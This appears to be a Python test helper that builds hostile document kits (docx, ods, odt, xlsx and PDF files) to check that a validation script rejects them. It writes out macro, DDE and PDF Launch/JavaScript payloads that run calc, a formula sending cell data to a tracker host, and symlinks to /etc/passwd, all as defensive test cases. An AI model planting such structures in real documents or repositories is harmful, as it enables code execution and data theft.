"""Assembling the hostile kits of tests/hostile/: base kit + overlay + setup (links, huge files), and running tools."""
from __future__ import annotations

import os
import shutil
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ROOT / "tests" / "hostile"
BASE = HOSTILE / "_base"
REGISTRIES = HOSTILE / "_registres"
REGISTRY_FILES = ("publics.yml", "enjeux.yml", "chiffres.yml")
# Where the template payloads of the hostile kits try to write: they must never appear.
CANARIES = (Path("/tmp/centres-canari-hostile"), ROOT / "canari-hostile")


def _sparse(path: Path, size: int, head: bytes) -> None:
    """A big file that costs no disk: its header, then a hole up to `size` bytes."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as handle:
        handle.write(head)
        handle.truncate(size)


def _outside(kit: Path) -> Path:
    """A folder beside the kits tree, for links that lead out of it."""
    other = kit.parent.parent / "ailleurs"
    other.mkdir(exist_ok=True)
    (other / "secret.csv").write_text("secret;1\n", encoding="utf-8")
    return other


def _kit_link(kit: Path) -> None:
    real = _outside(kit) / "vrai-kit"
    shutil.copytree(kit, real)
    shutil.rmtree(kit)
    kit.symlink_to(real, target_is_directory=True)


def _part_link(kit: Path) -> None:
    (kit / "cadre-de-reference.md").unlink()
    (kit / "cadre-de-reference.md").symlink_to("/etc/passwd")


def _kit_yml_link(kit: Path) -> None:
    real = _outside(kit) / "kit.yml"
    shutil.copy(kit / "kit.yml", real)
    (kit / "kit.yml").unlink()
    (kit / "kit.yml").symlink_to(real)


def _files_link(kit: Path) -> None:
    shutil.rmtree(kit / "fichiers")
    (kit / "fichiers").symlink_to(_outside(kit), target_is_directory=True)


def _zip(path: Path, members: dict[str, bytes | str]) -> None:
    """An office document (a zip) with these members, stored in this order."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)


_OOXML_TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="xml" ContentType="application/xml"/>'
                '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>')
_DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_DOCUMENT = ('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
             "<w:body><w:p><w:r><w:t>Bonjour</w:t></w:r></w:p></w:body></w:document>")


def _docx(path: Path, extra: dict[str, bytes | str] | None = None, main: str = _DOCX_MAIN) -> None:
    _zip(path, {"[Content_Types].xml": _OOXML_TYPES.format(main=main), "word/document.xml": _DOCUMENT, **(extra or {})})


def _rels(kind: str, target: str) -> str:
    return ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
            f'Target="{target}" TargetMode="External"/></Relationships>')


_ODF_CONTENT = ('<?xml version="1.0"?><office:document-content '
                'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
                'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
                'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
                'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
                'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body>{body}</office:body></office:document-content>')


def _odf(path: Path, body: str, extra: dict[str, bytes | str] | None = None) -> None:
    kind = "spreadsheet" if path.suffix == ".ods" else "text"
    _zip(path, {"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": _ODF_CONTENT.format(body=body),
                **(extra or {})})


_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _pdf(path: Path, *objects: bytes, trailer: bytes = b"") -> None:
    """A small PDF whose objects are these (numbered from 1), with its catalogue as object 1."""
    path.parent.mkdir(parents=True, exist_ok=True)
    body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (i, o) for i, o in enumerate(objects, 1))
    path.write_bytes(body + b"trailer\n<< /Root 1 0 R %s>>\n%%%%EOF\n" % trailer)


def _flate_stream(dictionary: bytes, data: bytes) -> bytes:
    packed = zlib.compress(data)
    return b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(packed), packed)


_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"

# Documents whose structure hides something that runs or fetches (issue #12): built here, so that the payload
# reads in plain text.
DOCUMENTS: dict[str, Callable[[Path], None]] = {
    "office-programme": lambda f: _zip(f / "guide.docx", {"[Content_Types].xml": _OOXML_TYPES.format(main=_DOCX_MAIN),
                                                         "setup.exe": b"MZ\x90\x00" + b"\x00" * 60}),
    "office-programme-deguise": lambda f: _docx(f / "guide.docx", {"word/media/image1.png": b"MZ\x90\x00" + b"\x00" * 60}),
    "office-macro-vba": lambda f: _docx(f / "guide.docx", {"word/vbaProject.bin": _OLE}),
    "office-type-macros": lambda f: _docx(f / "guide.docx", main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "office-modele-distant": lambda f: _docx(f / "guide.docx", {
        "word/_rels/settings.xml.rels": _rels("attachedTemplate", "http://pisteur.example/modele.dotm")}),
    "office-lien-fichier": lambda f: _docx(f / "guide.docx", {
        "word/_rels/document.xml.rels": _rels("hyperlink", "file://serveur/partage/x.exe")}),
    "office-ole": lambda f: _zip(f / "tableau.xlsx", {"[Content_Types].xml": _OOXML_TYPES.format(main="application/xml"),
                                                     "xl/embeddings/oleObject1.bin": _OLE}),
    # A quote never closed: the rest of the file is one cell, beyond the csv module's field limit (131,072).
    "csv-guillemet-ouvert": lambda f: (f / "grille.csv").write_text(
        "critère;note\n\"Un avis ; " + "très long, " * 12_000 + "\n", encoding="utf-8"),
    "office-encodage-inconnu": lambda f: _docx(f / "guide.docx", {"word/document.xml": (
        '<?xml version="1.0" encoding="x-inconnu"?><w:document/>')}),
    "office-trop-d-elements": lambda f: _docx(f / "guide.docx", {f"word/media/x{i}.xml": "<x/>" for i in range(2001)}),
    "ods-macro-basic": lambda f: _odf(f / "tableau.ods", "<office:spreadsheet/>",
                                      {"Basic/Standard/Module1.xml": "<module>Sub Main\nShell(\"calc\")\nEnd Sub</module>"}),
    "ods-macro-evenement": lambda f: _odf(f / "tableau.ods", (
        '<office:spreadsheet><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>'
        "</office:event-listeners></office:spreadsheet>")),
    "odt-dde": lambda f: _odf(f / "texte.odt", (
        '<office:text><text:dde-connection-decls><text:dde-connection-decl text:name="x" '
        'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>'
        "</office:text>")),
    "odt-image-distante": lambda f: _odf(f / "texte.odt", (
        '<office:text><draw:frame><draw:image xlink:href="http://pisteur.example/pixel.png"/></draw:frame>'
        "</office:text>")),
    "office-champ-dde": lambda f: _docx(f / "guide.docx", {"word/document.xml": (
        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
        '<w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>')}),
    "office-formule-dde": lambda f: _zip(f / "tableau.xlsx", {
        "[Content_Types].xml": _OOXML_TYPES.format(main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        "xl/worksheets/sheet1.xml": ('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                                     "spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>cmd|' /C calc'!A0"
                                     "</f></c></row></sheetData></worksheet>")}),
    "ods-formule-webservice": lambda f: _odf(f / "tableau.ods", (
        '<office:spreadsheet><table:table><table:table-row><table:table-cell '
        'table:formula="of:=WEBSERVICE(&quot;https://pisteur.example/?&quot;&amp;[.A2])"/></table:table-row>'
        "</table:table></office:spreadsheet>")),
    "odt-chiffre": lambda f: _odf(f / "texte.odt", "<office:text/>", {"META-INF/manifest.xml": (
        '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        '<manifest:encryption-data manifest:checksum-type="SHA1" manifest:checksum="x"/></manifest:file-entry>'
        "</manifest:manifest>")}),
    "pdf-javascript": lambda f: _pdf(f / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript "
                                     b"/JS (app.alert(1)) >> >>", _PAGES, _PAGE),
    "pdf-nom-code": lambda f: _pdf(f / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript "
                                   b"/J#53 (app.alert(1)) >> >>", _PAGES, _PAGE),
    "pdf-lancement": lambda f: _pdf(f / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch "
                                    b"/F (calc.exe) >> >>", _PAGES, _PAGE),
    "pdf-fichier-joint": lambda f: _pdf(f / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles "
                                        b"<< /Names [(x.exe) 4 0 R] >> >> >>", _PAGES, _PAGE,
                                        b"<< /Type /Filespec /F (x.exe) >>"),
    "pdf-flux-objets": lambda f: _pdf(f / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", _PAGES,
                                      _PAGE, _flate_stream(b"/Type /ObjStm /N 1 /First 4",
                                                           b"5 0 << /S /JavaScript /JS (app.alert(1)) >>")),
    "pdf-chiffre": lambda f: _pdf(f / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES, _PAGE,
                                  b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>", trailer=b"/Encrypt 4 0 R "),
}

# Links and huge files are made at test time so that the repository never holds them.
SETUP: dict[str, Callable[[Path], None]] = {
    **{case: (lambda make: lambda k: make(k / "fichiers"))(make) for case, make in DOCUMENTS.items()},
    "pdf-lien": lambda k: _pdf(k / "fichiers" / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES,
                               b"<< /Type /Page /Parent 2 0 R /Annots [<< /Type /Annot /Subtype /Link /A << /S /URI "
                               b"/URI (https://www.example.org/) >> >>] >>"),
    "ressource-lien-sortant": lambda k: (k / "fichiers" / "motdepasse.csv").symlink_to(_outside(k) / "secret.csv"),
    "ressource-lien-interne": lambda k: (k / "fichiers" / "copie.csv").symlink_to("grille.csv"),
    "fichiers-lien": _files_link,
    "sous-dossier-lien": lambda k: (k / "fichiers" / "systeme").symlink_to("/etc", target_is_directory=True),
    "kit-lien": _kit_link,
    "partie-lien": _part_link,
    "kit-yml-lien": _kit_yml_link,
    "trop-gros": lambda k: _sparse(k / "fichiers" / "gros.pdf", 21 * 1024 * 1024, b"%PDF-1.7\n"),
    "image-trop-grosse": lambda k: _sparse(k / "fichiers" / "photo.png", 6 * 1024 * 1024, b"\x89PNG\r\n\x1a\n"),
    "kit-trop-lourd": lambda k: [_sparse(k / "fichiers" / f"tome-{i}.pdf", 19 * 1024 * 1024, b"%PDF-1.7\n")
                                 for i in (1, 2, 3)],
    "yaml-enorme": lambda k: (k / "kit.yml").write_text(
        (k / "kit.yml").read_text(encoding="utf-8") + "mots_cles:\n" + "  - un mot-clé répété\n" * 14000,
        encoding="utf-8"),
    # Inputs that made a scan quadratic (minutes for `make check`): each just under the 2 MB part limit allows.
    "regex-balise-ouverte": lambda k: (k / "methodologie.md").write_text("## Étapes\n\n" + "<a " * 120_000, encoding="utf-8"),
    "regex-gabarit-ouvert": lambda k: (k / "methodologie.md").write_text("## Étapes\n\n" + "{{ {% " * 100_000, encoding="utf-8"),
    "regex-lien-ouvert": lambda k: (k / "methodologie.md").write_text("## Étapes\n\n" + "[x](<" * 100_000 + "\n" + "``a`" * 100_000,
                                                                        encoding="utf-8"),
    "yaml-chaine-enorme": lambda k: (k / "kit.yml").write_text(
        (k / "kit.yml").read_text(encoding="utf-8").replace("titre: Kit d'essai", "titre: " + "Titre " * 5000),
        encoding="utf-8"),
}


def add_kit(root: Path, case: str) -> Path:
    """Copy the base kit into `root/case`, lay the case's own files over it, then run its setup."""
    kit = root / case
    shutil.copytree(BASE, kit)
    overlay = HOSTILE / case
    for src in sorted(overlay.rglob("*")):
        if src.is_file() and src.name != ".gitkeep" and src.name not in REGISTRY_FILES:
            dst = kit / src.relative_to(overlay)
            dst.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(src, dst)
    if case in SETUP:
        SETUP[case](kit)
    return kit


def make_tree(root: Path, cases: list[str], registries: Path = REGISTRIES) -> Path:
    """A kits tree at `root` with the registries of `registries` (a case may override some) and one kit per case."""
    root.mkdir(parents=True)
    for name in REGISTRY_FILES:
        shutil.copy(registries / name, root / name)
    for case in cases:
        for name in REGISTRY_FILES:
            if (HOSTILE / case / name).is_file():
                shutil.copy(HOSTILE / case / name, root / name)
        add_kit(root, case)
    return root


def run_script(script: str, *args: str) -> subprocess.CompletedProcess:
    """Run scripts/<script> as `make` does, without writing bytecode anywhere."""
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1", PYTHONDONTWRITEBYTECODE="1")
    return subprocess.run([sys.executable, str(ROOT / "scripts" / script), *args], capture_output=True, text=True,
                          env=env, cwd=ROOT)


def snapshot(folder: Path) -> set[str]:
    """Every path below `folder` (links not followed), relative."""
    out = set()
    for current, dirs, files in os.walk(folder):
        for name in dirs + files:
            out.add(os.path.relpath(os.path.join(current, name), folder))
    return out
